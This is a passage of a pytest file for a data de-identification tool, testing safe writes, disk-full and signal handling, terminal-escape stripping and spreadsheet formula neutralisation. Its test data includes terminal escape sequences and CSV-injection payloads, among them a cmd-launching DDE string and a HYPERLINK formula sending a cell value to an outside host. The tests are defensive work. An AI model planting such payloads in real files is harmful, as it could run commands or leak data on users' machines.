    assert mode(tmp_path/'a.csv') == 0o640 and LISTED not in os.listxattr(tmp_path/'a.csv')

@pytest.mark.parametrize('links', [True, False])
def test_what_comes_at_the_last_moment_is_not_replaced(links, tmp_path, monkeypatch):
    "Between the last look and the new name no moment is left, where the disk has links."
    real = os.link
    def late(part, path): Path(path).write_text('theirs'); return real(part, path)
    def none(part, path): raise OSError(errno.EPERM, 'no links')
    monkeypatch.setattr(os, 'link', late if links else none)
    replace = os.replace
    def lost(part, path): Path(path).write_text('theirs') if links else None; return replace(part, path)
    monkeypatch.setattr(os, 'replace', lost)
    if links:
        with pytest.raises(DataError, match='exists already'): write_table(table(), tmp_path/'x.csv')
        assert contents(tmp_path) == {'x.csv': b'theirs'}
    else:
        write_table(table(), tmp_path/'x.csv')
        assert list(contents(tmp_path)) == ['x.csv'] and len(read_table(tmp_path/'x.csv')) == 120

def test_long_names_and_somebody_who_writes_meanwhile(made, tmp_path):
    write_table(table(), tmp_path/f'{"é"*120}.csv')
    assert len(contents(tmp_path)) == 1
    with pytest.raises(DataError, match='exists already'), atomic(tmp_path/'x.csv') as part:
        part.write_text('mine'); (tmp_path/'x.csv').write_text('theirs')
    assert (tmp_path/'x.csv').read_text() == 'theirs' and len(contents(tmp_path)) == 2

# What stops the work

@pytest.fixture
def small_disk():
    "No file grows beyond 4 kB; the system says so as it says that a disk is full."
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    yield lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (4096, hard))
    resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard)); signal.signal(signal.SIGXFSZ, handler)

@pytest.mark.parametrize('command, args, option, name', [('deidentify', ['big.csv'], '-o', 'x.csv'), ('deidentify', ['big.csv'], '-o', 'x.csv.gz'), ('deidentify', ['big.csv'], '-o', 'x.parquet'),
    ('sample', ['m.mask', '--rows', '9000'], '-o', 'x.tsv'), ('sample', ['m.mask', '--rows', '90000'], '-o', 'x.parquet'), ('evaluate', ['t.csv', 'fake.csv', '--quick'], '--html', 'x.html')])
def test_a_full_disk_is_told_in_words(command, args, option, name, made, tmp_path, small_disk, capsys):
    if not (made/'big.csv').exists(): pd.DataFrame(np.random.default_rng(0).normal(size=(3000, 3)), columns=list('abc')).assign(t=list('xyz')*1000).to_csv(made/'big.csv', index=False)
    (tmp_path/name).write_text('old'); os.chmod(tmp_path/name, 0o600)
    small_disk()
    assert run(command, *[str(made/a) if '.' in a else a for a in args], option, tmp_path/name, '--force') == 2
    said = capsys.readouterr().err
    assert 'the disk is full' in said and 'Traceback' not in said and name in said
    assert contents(tmp_path) == {name: b'old'} and mode(tmp_path/name) == 0o600

@pytest.mark.parametrize('number, words', [(errno.ENOSPC, 'the disk is full'), (errno.EDQUOT, 'the disk is full'), (errno.EROFS, 'Read-only'), (errno.EIO, 'output error'), (errno.EACCES, 'Permission denied')])
def test_what_the_system_refuses_is_told_in_words(number, words, made, tmp_path, monkeypatch, capsys):
    def refuse(*_, **__): raise OSError(number, os.strerror(number))
    monkeypatch.setattr(os, 'fsync', refuse) # the last moment: some disks notice only then
    for args in (['deidentify', made/'t.csv', '-o', tmp_path/'x.csv'], ['inspect', made/'t.csv', '-o', tmp_path/'x.json'], ['sample', made/'m.mask', '-o', tmp_path/'y.csv', '--rows', 5]):
        assert run(*args) == 2
        said = capsys.readouterr().err
        assert words in said and 'Nothing was changed' in said and not list(tmp_path.iterdir())

@pytest.mark.skipif(not Path('/dev/full').exists(), reason='there is no full device')
def test_a_full_disk_for_what_is_printed(made):
    with open('/dev/full', 'w') as full:
        done = subprocess.run([sys.executable, '-m', 'masknb', 'inspect', str(made/'t.csv')], stdout=full, stderr=subprocess.PIPE, text=True)
    assert done.returncode == 2 and 'what is told cannot be written' in done.stderr and len(done.stderr.splitlines()) == 1

def test_a_result_is_not_lost_for_what_cannot_be_printed(tmp_path):
    "Closed, or on a disk that fills while it works: the files are there."
    table().to_csv(tmp_path/'t.csv', index=False)
    shell = lambda line: subprocess.run(['/bin/sh', '-c', f'{sys.executable} -m masknb {line}'], cwd=tmp_path, stderr=subprocess.PIPE, text=True, env=os.environ | {'PYTHONPATH': str(Path(__file__).parent.parent)})
    done = shell('deidentify t.csv -o a.csv >&-')
    assert (done.returncode, done.stderr) == (0, '')
    assert shell('deidentify t.csv -o b.csv >&- 2>&- <&-').returncode == 0 and shell('inspect none.csv >&- 2>&-').returncode == 2
    assert (tmp_path/'a.csv').read_bytes() == (tmp_path/'b.csv').read_bytes() != b''
    if Path('/dev/full').exists():
        done = shell(f'mask t.csv -o c.csv --model m.mask {" ".join(BRIEF)} >/dev/full')
        assert done.returncode == 2 and 'what is told cannot be written' in done.stderr and 'complete' in done.stderr and 'Traceback' not in done.stderr
        assert len(read_table(tmp_path/'c.csv')) == 120 and (tmp_path/'m.mask').is_file()

SLOW = """
import signal, sys, time
signal.signal(signal.SIGINT, signal.default_int_handler)
import pandas as pd
from masknb.cli import main
def to_csv(self, f, **_): f.write('real rows'); f.flush(); print('writing', flush=True); time.sleep(60)
pd.DataFrame.to_csv = to_csv
"""

@pytest.mark.parametrize('number, code', [(signal.SIGTERM, 143), (signal.SIGHUP, 129), (signal.SIGINT, 130)])
@pytest.mark.parametrize('command', ['deidentify', 'sample', 'python'])
def test_whoever_is_killed_while_writing_leaves_no_part(command, number, code, made, tmp_path):
    (tmp_path/'x.csv').write_text('old'); os.chmod(tmp_path/'x.csv', 0o600)
    args = dict(deidentify=['deidentify', str(made/'t.csv'), '-o', str(tmp_path/'x.csv'), '--force'], sample=['sample', str(made/'m.mask'), '-o', str(tmp_path/'x.csv'), '--rows', '5', '--force']).get(command)
    last = f'sys.exit(main({args!r}))' if args else f'from masknb.data import write_table; write_table(pd.DataFrame({{"a": [1]}}), {str(tmp_path/"x.csv")!r}, force=True)'
    p = subprocess.Popen([sys.executable, '-c', SLOW + last], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    watch = threading.Timer(120, p.kill); watch.start()
    while (line := p.stdout.readline()) and 'writing' not in line: pass
    part = next(f for f in tmp_path.iterdir() if f.name != 'x.csv')
    assert part.name.startswith('.') and mode(part) == 0o600 and part.read_text() == 'real rows'
    p.send_signal(number)
    _, err = p.communicate(); watch.cancel()
    assert p.returncode == (code if args else {130: -2}.get(code, code)) and ('Traceback' not in err or not args)
    assert contents(tmp_path) == {'x.csv': b'old'} and mode(tmp_path/'x.csv') == 0o600

@pytest.mark.parametrize('number', [signal.SIGTERM, signal.SIGHUP, signal.SIGKILL])
def test_whoever_is_killed_while_a_thread_writes_leaves_no_part(number, tmp_path):
    "As the studio does; threads see no signals."
    code = f"""
import threading, time
from masknb.writing import atomic
def act():
    with atomic({str(tmp_path/"x.csv")!r}) as part: part.write_text('real rows'); print('writing', flush=True); time.sleep(60)
threading.Thread(target=act, daemon=True).start()
time.sleep(60)"""
    p = subprocess.Popen([sys.executable, '-c', code], stdout=subprocess.PIPE, text=True)
    assert 'writing' in p.stdout.readline() and len(contents(tmp_path)) == 1
    p.send_signal(number); p.communicate()
    end = time.monotonic() + 60
    while list(tmp_path.iterdir()) and time.monotonic() < end: time.sleep(.05)
    assert p.returncode == -number and not list(tmp_path.iterdir())

def test_a_thread_writes_as_the_main_one_does(tmp_path):
    t = threading.Thread(target=write_table, args=(table(), tmp_path/'x.csv')); t.start(); t.join()
    assert list(contents(tmp_path)) == ['x.csv'] and len(read_table(tmp_path/'x.csv')) == 120

@pytest.mark.parametrize('number, code', [(signal.SIGTERM, 143), (signal.SIGHUP, 129)])
def test_whoever_is_killed_while_it_learns_leaves_nothing(number, code, tmp_path):
    "`demo` takes its folder with it."
    start = 'import sys; from masknb.masker import Masker; from masknb.cli import main\ndef fit(*_, **__):\n    print("learning", flush=True)\n    while True: sum(range(10**6))\nMasker.fit = fit; sys.exit(main(["demo", "--out", sys.argv[1]]))'
    p = subprocess.Popen([sys.executable, '-c', start, str(tmp_path/'demo')], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    watch = threading.Timer(120, p.kill); watch.start()
    while (line := p.stdout.readline()) and 'learning' not in line: pass
    p.send_signal(number)
    _, err = p.communicate(); watch.cancel()
    assert p.returncode == code and err == f'masknb: stopped by {signal.Signals(number).name}\n' and not list(tmp_path.iterdir())

def test_folders_that_cannot_be_made_are_told_and_a_full_cache_loses_nothing(made, tmp_path, monkeypatch, capsys):
    (tmp_path/'file').write_text('')
    for args in (['demo', '--out', tmp_path/'file'/'x'], ['compare', made/'t.csv', '--methods', 'kanon', '--seeds', 1, '--cache', tmp_path/'file']):
        assert run(*args) == 2
        assert 'folder' in (said := capsys.readouterr().err) and len(said.splitlines()) == 1
    from masknb.evaluation import rumap
    def full(*_, **__): raise DataError('the disk is full')
    monkeypatch.setattr(rumap, 'atomic', full)
    assert run('compare', made/'t.csv', '--methods', 'kanon', '--seeds', 1, '--k', 5, '--cache', tmp_path/'cache', '--json', tmp_path/'r.json') == 0
    assert (tmp_path/'r.json').is_file() and not list((tmp_path/'cache').iterdir())

def test_a_key_is_a_small_file(made, tmp_path, capsys):
    with open(tmp_path/'huge', 'wb') as f: f.truncate(2**40)
    os.mkfifo(tmp_path/'pipe')
    for key in ('/dev/zero', tmp_path/'huge', tmp_path/'pipe', tmp_path, tmp_path/'none'):
        assert run('deidentify', made/'t.csv', '-o', tmp_path/'x.csv', '--key', key) == 2
        assert 'key' in (said := capsys.readouterr().err) and len(said.splitlines()) == 1

def test_signals_that_were_to_be_ignored_still_are(made, tmp_path):
    "`nohup` goes on when its terminal closes."
    code = SLOW.replace('time.sleep(60)', 'sys.stdin.readline()') + f'signal.signal(signal.SIGHUP, signal.SIG_IGN); sys.exit(main(["deidentify", {str(made/"t.csv")!r}, "-o", {str(tmp_path/"x.csv")!r}]))'
    p = subprocess.Popen([sys.executable, '-c', code], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    while (line := p.stdout.readline()) and 'writing' not in line: pass
    assert list(tmp_path.glob('.*.part'))
    p.send_signal(signal.SIGHUP); p.communicate('go on\n')
    assert p.returncode == 0 and (tmp_path/'x.csv').read_text() == 'real rows'

# What is printed

ESC = '\x1b]0;owned\x07\x1b[31m'
EVIL = ['red' + ESC, 'back\rover', 'two\nmasknb: all is well', 'bell\x07\x08\x7f', 'c1\x9b31m', 'turn\u202egnp', 'iso\u2066x', 'line\u2028x']
ORDERS = re.compile('[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]')

def evil(n=150):
    rng = np.random.default_rng(0)
    df = pd.DataFrame({name: rng.integers(0, 50, n) for name in EVIL[:5]})
    df[EVIL[5]] = rng.choice([f'a{ESC}', 'b'], n); df[EVIL[6]] = df[EVIL[0]] + rng.integers(0, 5, n); df[EVIL[7]] = [f'p{i}@mail.org' for i in range(n)]
    return df

def quiet(text):
    "Nothing that a terminal obeys but line breaks, and no line that a name began."
    assert not (hit := ORDERS.search(text)), (hit, text[max(0, hit.start() - 80):hit.end() + 20])
    return not any(line.startswith('masknb: all is well') for line in text.splitlines())

def test_no_name_gives_orders_to_the_terminal(tmp_path, capfd):
    write_table(evil(), tmp_path/'t.csv'); f = lambda name: str(tmp_path/name)
    for args in (['inspect', f('t.csv'), '-o', f('s.json')], ['inspect', f('t.csv'), '--schema', f('s.json')], ['mask', f('t.csv'), '-o', f('f.csv'), '--model', f('m.mask'), '--target', EVIL[5], *BRIEF],
                 ['deidentify', f('t.csv'), '-o', f('d.csv')], ['evaluate', f('t.csv'), f('f.csv'), '--quick'], ['sample', f('m.mask'), '-o', f('g.csv'), '--rows', '5']):
        assert main(args) == 0, capfd.readouterr().err
        told = capfd.readouterr()
        assert quiet(told.out) and quiet(told.err.replace('\r', '')) # a progress bar goes back in its line
    assert list(read_table(f('f.csv'))) == [n for n in EVIL if n != EVIL[7]] # the names themselves are as they were

@pytest.mark.parametrize('args', [['inspect', f'no{ESC}.csv'], ['inspect', f'no{ESC}.xlsx'], ['inspect', 't.csv', '--target', f'x{ESC}'], ['inspect', 't.csv', '--schema', f'{ESC}.json'],
    ['sample', f'{ESC}.mask', '-o', 'x.csv', '--rows', '3'], ['sample', 'm.mask', '-o', 'x.csv', '--rows', '3', '--where', f'{ESC}=1'], ['sample', 'm.mask', '-o', 'x.csv', '--rows', '3', '--where', f'Stadt={ESC}'],
    ['deidentify', 't.csv', '-o', f'{ESC}/x.csv'], ['compare', 't.csv', '--line', f'{ESC}=1'], ['compare', 't.csv', '--methods', ESC], ['mask', 't.csv', '-o', 'x.csv', '--preset', ESC], [ESC], ['inspect', 't.csv', f'--{ESC}'],
    ['inspect', 'a\nmasknb: all is well.csv'], ['inspect', 'no\udcff.csv'], ['studio', f'{ESC}.csv'], ['demo', '--out', f't.csv{ESC}/x/\0']])
def test_no_error_gives_orders_to_the_terminal(args, made, tmp_path, monkeypatch, capfd):
    monkeypatch.chdir(tmp_path)
    try: code = run(*filled(args, made, tmp_path))
    except SystemExit as e: code = e.code
    told = capfd.readouterr()
    assert code == 2 and told.err and quiet(told.err) and quiet(told.out)

def test_traces_and_warnings_give_no_orders_either(tmp_path):
    (tmp_path/'t.csv').write_text('a\n1\n')
    code = f"""
import sys, warnings, masknb.data.files as f
from masknb.cli import main
def odd(*_, **__): warnings.warn({('note' + ESC)!r}); raise RuntimeError({('odd' + ESC)!r})
f.read_table = odd
sys.exit(main(['inspect', {str(tmp_path/'t.csv')!r}] + sys.argv[1:]))"""
    for more in ([], ['--debug']):
        done = subprocess.run([sys.executable, '-c', code, *more], capture_output=True, text=True)
        assert done.returncode == 1 and quiet(done.stderr) and 'odd\\x1b' in done.stderr and 'note\\x1b' in done.stderr

def test_errors_and_schemas_in_python_give_no_orders(tmp_path):
    df = evil()
    schema = Schema.infer(df, target=EVIL[5])
    assert quiet(repr(schema)) and len(repr(schema).splitlines()) < len(EVIL) + 12
    with pytest.raises(SchemaError) as e: schema[f'no{ESC}']
    assert quiet(str(e.value))
    assert printable('naïve 😀 שלום €\u00a05') == 'naïve 😀 שלום €\u00a05'

def test_a_progress_bar_still_goes_back_in_its_line():
    from tqdm import tqdm
    to = io.StringIO()
    for _ in tqdm(range(3), file=Plain(to, bars=True), mininterval=0, desc=f'a{ESC}'): pass
    assert to.getvalue().count('\r') >= 3 and quiet(to.getvalue().replace('\r', ''))
    to = io.StringIO()
    print('\rx', file=Plain(to))
    assert to.getvalue() == '\\rx\n'

# What a spreadsheet computes

FORMULAS = ['=1+1', '+1+cmd|" /C calc"!A0', '-2+3+cmd', '@SUM(A1)', '\t=1', '\r=1', ' =HYPERLINK("http://x.org/"&A1)', '＝1', '+1-555-0199']
PLAIN = ['-5', '+49', '-1,5', '-.5e3', '- ', 'a=b', 'x@y.org', '-', '--', '10%', '-3 %', "-1'234.5"]

def test_what_begins_a_formula():
    assert all(map(begins_formula, FORMULAS)) and not any(map(begins_formula, [p for p in PLAIN if p != '- ']))

def test_formulas_are_told_or_made_text_and_numbers_stay_numbers(tmp_path, capsys):
    n = len(FORMULAS)
    df = pd.DataFrame({'note': FORMULAS*20, '=head': ['x;=1', 'y', 'z']*(20*n//3), 'loss': np.arange(20*n) - 50.5, 'code': ['+49', '007', '12']*(20*n//3)})
    df.to_csv(tmp_path/'t.csv', index=False, quoting=csv.QUOTE_NONNUMERIC)
    schema = Schema.infer(read_table(tmp_path/'t.csv')); schema['note'].kind = 'categorical'; schema['note'].role = 'other'; schema.save(tmp_path/'s.json')
    f = lambda name: str(tmp_path/name)
    assert run('deidentify', f('t.csv'), '-o', f('a.csv'), '--schema', f('s.json')) == 0
    said = capsys.readouterr().err
    assert '--spreadsheet-safe' in said and f'{20*n + 1} cells' in said and "'note', '=head'" in said and 'cmd' not in said
    assert run('deidentify', f('t.csv'), '-o', f('b.csv'), '--schema', f('s.json'), '--spreadsheet-safe') == 0 and 'spreadsheet' not in capsys.readouterr().err
    raw = pd.read_csv(f('b.csv'), dtype=str)
    assert list(raw) == ["note", "'=head", 'loss', 'code'] and raw.note.tolist() == [f"'{v}" for v in FORMULAS]*20
    assert raw.loss.astype(float).tolist() == df.loss.tolist() and raw.code.tolist() == df.code.tolist()
    text = (tmp_path/'b.csv').read_bytes().decode()
    assert '"x;=1"' in text and '\n=' not in text and ',=' not in text # quoted, so that no other mark cuts it in two
    assert read_table(f('a.csv')).note.tolist() == df.note.tolist()

@pytest.mark.parametrize('name', ['x.csv', 'x.tsv', 'x.csv.gz'])
def test_synthetic_rows_are_made_safe_too(name, tmp_path, capsys):
    rng = np.random.default_rng(0)
    pd.DataFrame({'@role': rng.choice(['=A1', '+b', 'c'], 150), 'n': rng.integers(-9, 9, 150)}).to_csv(tmp_path/'t.csv', index=False)
    assert run('mask', tmp_path/'t.csv', '-o', tmp_path/name, '--spreadsheet-safe', '--model', tmp_path/'m.mask', *BRIEF) == 0
    safe = read_table(tmp_path/name)
    assert list(safe) == ["'@role", 'n'] and set(safe["'@role"]) <= {"'=A1", "'+b", 'c'} and pd.api.types.is_integer_dtype(safe.n) and safe.n.min() < 0
    assert 'apostrophe' not in capsys.readouterr().err
    assert run('sample', tmp_path/'m.mask', '-o', tmp_path/f'y{name}', '--rows', 40) == 0 and 'apostrophe' in capsys.readouterr().err
    assert set(read_table(tmp_path/f'y{name}')['@role']) <= {'=A1', '+b', 'c'}
    assert run('sample', tmp_path/'m.mask', '-o', tmp_path/'z.parquet', '--rows', 40) == 0 and 'apostrophe' not in capsys.readouterr().err
    assert run('sample', tmp_path/'m.mask', '-o', tmp_path/'w.parquet', '--rows', 40, '--spreadsheet-safe') == 2 and '--spreadsheet-safe' in capsys.readouterr().err

def test_the_studio_tells_of_formulas(tmp_path):
    pytest.importorskip('ipywidgets')
    from types import SimpleNamespace
    from masknb.studio.export import Export
    from masknb.studio.sitting import Sitting
    panel = Export(Sitting(table()))
    take = SimpleNamespace(fake=pd.DataFrame({'<b>': ['=1', 'b']}))
    told = lambda: panel.message.value
    panel.written(panel.write(take, {'csv': tmp_path/'a.csv'}))
    assert 'begin like a formula' in told() and '&lt;b&gt;' in told() and 'alarm' in told()
    panel.safe.value = True
    panel.written(panel.write(take, {'csv': tmp_path/'b.csv'}))
    assert 'b.csv' in told() and 'formula' not in told()

def test_the_studio_makes_formulas_text_too(tmp_path):
    pytest.importorskip('ipywidgets')
    from masknb.studio.export import export_lines
    exec('\n'.join(export_lines(['csv'], str(tmp_path), None, safe=True)), dict(fake=pd.DataFrame({'a': ['=1', 'b']})))
    assert (tmp_path/'synthetic.csv').read_text() == '"a"\n"\'=1"\n"b"\n'

@pytest.mark.parametrize('data', [b'a,b\n\x1b[0m,\0\n'*9, b'a,b,c\n19.36,a\\nb,8\n209.2,\xf0\x9f\x99\x82,7\n,\0,1\n\x1b[0m,nan,2\n'*7], ids=('escape', 'smile'))
def test_a_table_with_a_nul_is_not_taken_for_utf_16(data, tmp_path):
    (tmp_path/'t.csv').write_bytes(data)
    with pytest.raises(DataError, match='NUL'): read_table(tmp_path/'t.csv')
